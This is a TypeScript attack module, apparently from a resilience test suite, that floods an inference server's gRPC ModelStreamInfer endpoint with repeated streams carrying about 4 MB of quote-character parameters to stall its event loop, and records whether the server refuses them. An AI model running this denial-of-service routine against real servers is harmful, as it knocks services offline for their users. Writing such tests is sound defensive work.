import type { Attack } from '../attack.ts';
import { doubleModel } from '../attack-models.ts';
import { grpcFields, Http2Attacker } from '../raw/http2.ts';
import { envelope, inferMessage, messageField, streamMethod } from '../raw/infer-message.ts';
import { closed } from '../target.ts';

const valueBytes = 256 * 1024 - 10;
const valueCount = 16;
/** Each is compared with those of the request before. */
const requestsPerCall = 4;

function parameter(name: string, value: string): Buffer {
  return messageField(4, Buffer.concat([messageField(1, name), messageField(2, messageField(3, value))]));
}

export const streamParameters: Attack = {
  name: 'stream-parameters',
  row: 'Requests of ModelStreamInfer open durable streams with 4 MB of parameters, and repeat them: written as JSON and hashed with each request, they held the event loop for 250 ms.',
  expected: 'refused',
  run: (target, pressure) => {
    // Each of these signs is two in JSON.
    const value = '"'.repeat(valueBytes);
    const large = Array.from({ length: valueCount }, (_, index) => parameter(`p${index}`, value));
    const inputs = [{ name: 'x', datatype: 'FP32', shape: [1, 1] }];
    const request = inferMessage({ model: doubleModel, inputs, raw: [new Uint8Array(4)] });
    let next = 0;
    return target.again(2 * pressure, async () => {
      const connection = await Http2Attacker.open(target, target.location.ports.grpc, { isOpenWide: true });
      if (connection === undefined) return target.sleep(100);
      const id = connection.open(grpcFields(target, streamMethod, [['triton_grpc_error', 'true']]));
      const finished = connection.finished(id);
      const message = envelope(
        Buffer.concat([request, parameter('stream_id', `large-${target.location.seed}-${next++}`), ...large]),
      );
      for (let count = 0; count < requestsPerCall && !connection.isOver(id) && !target.isOver; count++) {
        if (!(await connection.body(id, message, count === requestsPerCall - 1))) break;
      }
      const answer = await Promise.race([finished, closed(connection.socket), target.sleep(10_000)]);
      if (answer?.name === '') target.fate.harm('a stream was opened with 4 MB of parameters');
      target.hangUp(connection.socket);
    });
  },
};
